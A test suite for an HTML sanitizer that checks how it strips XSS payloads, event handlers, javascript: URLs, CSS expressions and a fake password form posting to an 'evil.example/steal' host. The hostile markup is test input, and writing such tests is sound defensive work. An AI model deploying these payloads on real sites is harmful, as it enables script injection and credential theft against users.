import { describe, expect, it } from 'vitest';
import { htmlToText, sanitizeHtml } from './index.js';
import { findHazards } from './testdata/find-hazards.js';
import { XSS_VECTORS } from './testdata/xss-vectors.js';

const BASE = 'http://example.com/blog/post/';

describe('sanitizeHtml: known XSS vectors', () => {
  it.each(XSS_VECTORS)('%s: harmless and stable', (_name, html) => {
    const out = sanitizeHtml(html, { baseUrl: BASE });
    expect(findHazards(out)).toEqual([]);
    expect(sanitizeHtml(out, { baseUrl: BASE })).toBe(out);
  });

  it('the hazard finder sees the hazard in the raw vectors (the check can fail)', () => {
    // Vectors that are inert even unsanitized (they rely on old browsers or on the
    // sanitizer re-reading text as markup) are not counted.
    const flagged = XSS_VECTORS.filter(([, html]) => findHazards(html).length > 0);
    expect(flagged.length).toBeGreaterThan(XSS_VECTORS.length * 0.9);
  });
});

describe('sanitizeHtml: allowlist rules', () => {
  it.each([
    ['script dropped with its content', 'a<script>alert(1)</script>b', 'ab'],
    ['unknown element unwrapped', '<blink>x</blink> <marquee>y</marquee>', 'x y'],
    [
      'event handler dropped',
      '<img src="http://a.example/i.png" onerror="x()">',
      '<img src="http://a.example/i.png">',
    ],
    [
      'unknown attribute dropped',
      '<span i$="true" data-x="1" abbr="">t</span>',
      '<span abbr="">t</span>',
    ],
    ['autoplay dropped', '<video autoplay controls></video>', '<video controls=""></video>'],
    ['javascript href dropped', '<a href="javascript:alert(1)">x</a>', '<a>x</a>'],
    ['mailto kept', '<a href="mailto:a@b.example">m</a>', '<a href="mailto:a@b.example">m</a>'],
    [
      'magnet kept',
      '<a href="magnet:?xt=urn:btih:abc">m</a>',
      '<a href="magnet:?xt=urn:btih:abc">m</a>',
    ],
    ['ftp kept', '<a href="ftp://ftp.example/f">f</a>', '<a href="ftp://ftp.example/f">f</a>'],
    [
      'data image kept on img',
      '<img src="data:image/png;base64,iVBORw0KGgo=">',
      '<img src="data:image/png;base64,iVBORw0KGgo=">',
    ],
    ['data image dropped on a', '<a href="data:image/png;base64,iVBORw0KGgo=">x</a>', '<a>x</a>'],
    [
      'style filtered',
      '<p style="color: red; position: absolute; top: 0">t</p>',
      '<p style="color: red;">t</p>',
    ],
    [
      'style url removed',
      '<p style="background-color: #000; background-image: url(/i.jpg)">t</p>',
      '<p style="background-color: #000;">t</p>',
    ],
    [
      'style expression drops the attribute',
      '<p style="width: expression(alert(1))">t</p>',
      '<p>t</p>',
    ],
    [
      'style margin keywords',
      '<p style="margin: 0px !important">t</p>',
      '<p style="margin: 0px !important;">t</p>',
    ],
    ['style margin too large', '<p style="margin: 99999em">t</p>', '<p>t</p>'],
    ['comment kept', 'a<!-- note -->b', 'a<!-- note -->b'],
    ['conditional comment dropped', 'a<!--[if IE]><b>x</b><![endif]-->b', 'ab'],
    [
      'noscript unwrapped',
      '<noscript><img src="http://a.example/i.png"></noscript>',
      '<img src="http://a.example/i.png">',
    ],
    [
      'iframe fallback kept as text',
      '<iframe src="http://v.example/">fallback <b>bold</b></iframe>',
      'fallback bold',
    ],
    ['template dropped', 'a<template><b>x</b></template>b', 'ab'],
    [
      'meta and base dropped',
      '<meta http-equiv="refresh" content="0"><base href="http://x.example/">t',
      't',
    ],
    ['attribute escaped', "<a title='\"<>&'>x</a>", '<a title="&quot;&lt;&gt;&amp;">x</a>'],
    ['text escaped', '<b>1 &lt; 2 &amp;&amp; 3 &gt; 2</b>', '<b>1 &lt; 2 &amp;&amp; 3 &gt; 2</b>'],
    ['cdata shown as text', '<![CDATA[x]]>', '&lt;![CDATA[x]]&gt;'],
    ['plain text untouched', '  AT&T &amp; friends  ', 'AT&T &amp; friends'],
    ['table parts kept', '<tr><td>x</td></tr>', '<tr><td>x</td></tr>'],
    [
      'svg kept with its namespace',
      '<svg viewBox="0 0 10 10"><circle r="1" onclick="x()"/></svg>',
      '<svg viewBox="0 0 10 10" xmlns="http://www.w3.org/2000/svg"><circle r="1"></circle></svg>',
    ],
    [
      'svg xlink kept with its declaration',
      '<svg><a xlink:href="http://a.example/"><text>t</text></a></svg>',
      '<svg xmlns="http://www.w3.org/2000/svg"><a xlink:href="http://a.example/" xmlns:xlink="http://www.w3.org/1999/xlink"><text>t</text></a></svg>',
    ],
    [
      'mathml kept',
      '<math><mrow><mi>a</mi><mo>+</mo><mi>b</mi></mrow></math>',
      '<math xmlns="http://www.w3.org/1998/Math/MathML"><mrow><mi>a</mi><mo>+</mo><mi>b</mi></mrow></math>',
    ],
    [
      'svg animation of a safe attribute kept',
      '<svg><set attributeName="fill" to="red"/></svg>',
      '<svg xmlns="http://www.w3.org/2000/svg"><set attributeName="fill" to="red"></set></svg>',
    ],
    [
      'svg animation of href dropped',
      '<svg><set attributeName="href" to="x"/></svg>',
      '<svg xmlns="http://www.w3.org/2000/svg"></svg>',
    ],
    [
      'html in svg unwrapped',
      '<svg><circle><b>x</b></circle></svg>',
      '<svg xmlns="http://www.w3.org/2000/svg"><circle></circle></svg><b>x</b>',
    ],
  ])('%s', (_name, input, expected) => {
    expect(sanitizeHtml(input)).toBe(expected);
  });
});

describe('sanitizeHtml: URL resolution', () => {
  it.each([
    ['href', '<a href="../other/">x</a>', '<a href="http://example.com/blog/other/">x</a>'],
    ['root-relative src', '<img src="/i.png">', '<img src="http://example.com/i.png">'],
    ['same-document fragment', '<a href="#c">x</a>', '<a href="#user-content-c">x</a>'],
    ['empty fragment', '<a href="#">top</a>', '<a href="#">top</a>'],
    [
      'fragment of another page',
      '<a href="p#c">x</a>',
      '<a href="http://example.com/blog/post/p#c">x</a>',
    ],
    [
      'protocol-relative',
      '<img src="//cdn.example/i.png">',
      '<img src="http://cdn.example/i.png">',
    ],
    [
      'srcset',
      '<img srcset="a.png 1x, /b.png 2x">',
      '<img srcset="http://example.com/blog/post/a.png 1x, http://example.com/b.png 2x">',
    ],
    [
      'poster',
      '<video poster="p.jpg"></video>',
      '<video poster="http://example.com/blog/post/p.jpg"></video>',
    ],
    [
      'cite',
      '<blockquote cite="q">x</blockquote>',
      '<blockquote cite="http://example.com/blog/post/q">x</blockquote>',
    ],
    ['longdesc', '<img longdesc="d.html">', '<img longdesc="http://example.com/blog/post/d.html">'],
    [
      'background',
      '<table background="bg.png"></table>',
      '<table background="http://example.com/blog/post/bg.png"></table>',
    ],
    ['usemap', '<img usemap="#m">', '<img usemap="#user-content-m">'],
    [
      'svg xlink:href',
      '<svg><a xlink:href="x"><text>t</text></a></svg>',
      '<svg xmlns="http://www.w3.org/2000/svg"><a xlink:href="http://example.com/blog/post/x" xmlns:xlink="http://www.w3.org/1999/xlink"><text>t</text></a></svg>',
    ],
    [
      'absolute kept as written',
      '<a href="HTTP://Example.COM/a b">x</a>',
      '<a href="HTTP://Example.COM/a b">x</a>',
    ],
    [
      'base element is the base',
      '<base href="http://other.example/d/"><a href="x">x</a>',
      '<a href="http://other.example/d/x">x</a>',
    ],
    [
      'relative base element',
      '<a href="x">x</a><base href="/sub/">',
      '<a href="http://example.com/sub/x">x</a>',
    ],
    [
      'javascript base ignored',
      '<base href="javascript:alert(1)//"><a href="x">x</a>',
      '<a href="http://example.com/blog/post/x">x</a>',
    ],
    [
      'relative URL becomes dangerous? no',
      '<a href="javascript%3Aalert(1)">x</a>',
      '<a href="http://example.com/blog/post/javascript%3Aalert(1)">x</a>',
    ],
  ])('%s', (_name, input, expected) => {
    expect(sanitizeHtml(input, { baseUrl: BASE })).toBe(expected);
  });

  it('keeps relative URLs relative without a base', () => {
    expect(sanitizeHtml('<a href="../x">x</a>')).toBe('<a href="../x">x</a>');
  });

  // A browser does not strip U+00A0 or U+FEFF from a URL, so `&nbsp;javascript:` is a relative
  // URL to it; String.prototype.trim() strips them and made it a javascript: URL again when
  // there was no base to resolve against.
  it.each([
    ['no-break space', '<a href="&nbsp;javascript:alert(1)">x</a>'],
    ['byte order mark', '<a href="&#xfeff;javascript:alert(1)">x</a>'],
    ['ideographic space', '<a href="&#x3000;javascript:alert(1)">x</a>'],
  ])('a URL behind a %s stays relative, with or without a base', (_name, html) => {
    for (const options of [{}, { baseUrl: BASE }]) {
      const out = sanitizeHtml(html, options);
      expect(findHazards(out)).toEqual([]);
      expect(out).not.toMatch(/href="javascript/);
    }
  });
});

describe('sanitizeHtml: robustness', () => {
  it('survives very deep nesting', () => {
    const html = '<div>'.repeat(50_000) + 'x' + '</div>'.repeat(50_000);
    const out = sanitizeHtml(html);
    expect(out).toContain('x');
    expect(findHazards(out.slice(0, 1000))).toEqual([]);
  });

  it('bounds re-parsing of nested raw-text elements', () => {
    const out = sanitizeHtml('<iframe>'.repeat(10_000) + '<b>x</b>');
    expect(out.length).toBeLessThan(100_000);
  });

  it('returns the empty string for empty input', () => {
    expect(sanitizeHtml('')).toBe('');
  });
});

describe('htmlToText', () => {
  it.each([
    ['tags stripped', 'Example <b>Atom</b>', 'Example Atom'],
    ['entities decoded', 'AT&amp;T &lt;3 &#8217; &eacute;', 'AT&T <3 \u2019 \u00e9'],
    ['whitespace collapsed', '  a \n\t b  ', 'a b'],
    [
      'script content dropped',
      'safe<script>location.href="x"</script> description',
      'safe description',
    ],
    ['blocks separate words', '<p>one</p><p>two</p>', 'one two'],
    ['br separates words', 'one<br>two', 'one two'],
    [
      'iframe fallback words',
      'safe<iframe src="x"> <b>description</b></iframe>',
      'safe description',
    ],
    ['plain', 'no markup', 'no markup'],
  ])('%s', (_name, input, expected) => {
    expect(htmlToText(input)).toBe(expected);
  });
});

describe('srcset', () => {
  it('keeps data: URLs with commas whole', () => {
    const html =
      '<img srcset="data:image/png;base64,iVBO,RK 1x, /b.png 2x, javascript:alert(1) 3x">';
    expect(sanitizeHtml(html, { baseUrl: BASE })).toBe(
      '<img srcset="data:image/png;base64,iVBO,RK 1x, http://example.com/b.png 2x">',
    );
  });
});

describe('IRIs', () => {
  it('keeps non-ASCII characters of resolved URLs as written (feedparser: rel_uri_with_unicode_character)', () => {
    expect(sanitizeHtml('<a href="&#192;/é%20x">x</a>', { baseUrl: BASE })).toBe(
      '<a href="http://example.com/blog/post/À/é%20x">x</a>',
    );
  });
});

describe('pathological input', () => {
  it('handles many list items under deep nesting without quadratic work', () => {
    const html = '<div>'.repeat(20_000) + '<li>x'.repeat(20_000);
    const out = sanitizeHtml(html);
    expect(out.split('<li>').length - 1).toBe(20_000);
  });
});

describe('unwrapped scope boundaries', () => {
  // fast-check found `<p><object><h1>` (seed 53671608): the unwrapped <object> had kept the
  // <h1> inside the <p> for the parser, and the output changed when sanitized again.
  it.each([
    ['<p><object><h1>x</h1></object></p>', '<p></p><h1>x</h1><p></p>'],
    ['<ul><li>a<object><li>b</object></ul>', '<ul><li>a</li><li>b</li></ul>'],
    ['<p><marquee><h1>x</h1></marquee></p>', '<p></p><h1>x</h1><p></p>'],
    ['<table><td><object><td>z', '<table><tbody><tr><td></td><td>z</td></tr></tbody></table>'],
  ])('%s is sanitized as the browser will read the output', (html, expected) => {
    const once = sanitizeHtml(html);
    expect(once).toBe(expected);
    expect(sanitizeHtml(once)).toBe(once);
  });
});

describe('hostile markup policy (issue 13): forms, focus, DOM clobbering', () => {
  it.each([
    [
      'a password form: text kept, form gone',
      '<form action="https://evil.example/steal" method="post"><label for="p">Password</label> <input type="password" name="p" id="p"><button type="submit">Log in</button></form>',
      'Password Log in',
    ],
    [
      'select, options, textarea, fieldset, legend, datalist, output, keygen',
      '<fieldset><legend>L</legend><select name="s"><optgroup label="g"><option>o1</option><option>o2</option></optgroup></select><textarea name="t"><b>t</b></textarea><datalist id="d"><option value="v"></datalist><output name="o">42</output><keygen name="k"></fieldset>',
      'Lo1o2&lt;b&gt;t&lt;/b&gt;42',
    ],
    [
      'button in a paragraph',
      '<p>a <button formaction="javascript:x">b</button> c</p>',
      '<p>a b c</p>',
    ],
    ['input alone', 'x<input type="hidden" name="csrf" value="v">y', 'xy'],
    [
      'focus, editing and shortcut attributes dropped',
      '<p autofocus contenteditable="true" tabindex="1" accesskey="s" title="t">x</p>',
      '<p title="t">x</p>',
    ],
    ['id namespaced', '<h2 id="search">x</h2>', '<h2 id="user-content-search">x</h2>'],
    [
      'name namespaced',
      '<img name="cookie" src="http://a.example/i.png"><a name="body">x</a>',
      '<img name="user-content-cookie" src="http://a.example/i.png"><a name="user-content-body">x</a>',
    ],
    [
      'footnotes keep working',
      '<p>x<sup id="fnref1"><a href="#fn1">1</a></sup></p><ol><li id="fn1">n <a href="#fnref1">↩</a></li></ol>',
      '<p>x<sup id="user-content-fnref1"><a href="#user-content-fn1">1</a></sup></p><ol><li id="user-content-fn1">n <a href="#user-content-fnref1">↩</a></li></ol>',
    ],
    [
      'image map',
      '<img usemap="#m"><map name="m"><area href="/a" shape="rect"></map>',
      '<img usemap="#user-content-m"><map name="user-content-m"><area href="http://example.com/a" shape="rect"></map>',
    ],
    [
      'table headers',
      '<table><tr><th id="h1">a</th><th id="h2">b</th></tr><tr><td headers="h1  h2">c</td></tr></table>',
      '<table><tbody><tr><th id="user-content-h1">a</th><th id="user-content-h2">b</th></tr><tr><td headers="user-content-h1  user-content-h2">c</td></tr></tbody></table>',
    ],
    [
      'SVG gradient and use references',
      '<svg><defs><linearGradient id="g"><stop offset="0"/></linearGradient></defs><rect fill="url(#g)" stroke="url(\'#g\')"/><use xlink:href="#g"/></svg>',
      '<svg xmlns="http://www.w3.org/2000/svg"><defs><linearGradient id="user-content-g"><stop offset="0"></stop></linearGradient></defs><rect fill="url(#user-content-g)" stroke="url(\'#user-content-g\')"></rect><use xlink:href="#user-content-g" xmlns:xlink="http://www.w3.org/1999/xlink"></use></svg>',
    ],
    [
      'MathML id',
      '<math id="m"><mi>x</mi></math>',
      '<math id="user-content-m" xmlns="http://www.w3.org/1998/Math/MathML"><mi>x</mi></math>',
    ],
    [
      'empty id and name name nothing and stay',
      '<span id="" name="">x</span>',
      '<span id="" name="">x</span>',
    ],
    [
      'already namespaced values are kept (sanitizing is idempotent)',
      '<a id="user-content-x" href="#user-content-x">x</a>',
      '<a id="user-content-x" href="#user-content-x">x</a>',
    ],
  ])('%s', (_name, input, expected) => {
    const out = sanitizeHtml(input, { baseUrl: BASE });
    expect(out).toBe(expected);
    expect(findHazards(out)).toEqual([]);
    expect(sanitizeHtml(out, { baseUrl: BASE })).toBe(out);
  });

  it('the hazard finder flags what the policy removes (the check can fail)', () => {
    expect(findHazards('<form><input type="password"></form>')).toEqual(
      expect.arrayContaining(['<form> element', '<input> element']),
    );
    expect(findHazards('<p tabindex="1" id="body">x</p>')).toEqual(
      expect.arrayContaining(['tabindex on <p>', 'id="body" on <p> outside user-content-']),
    );
  });
});
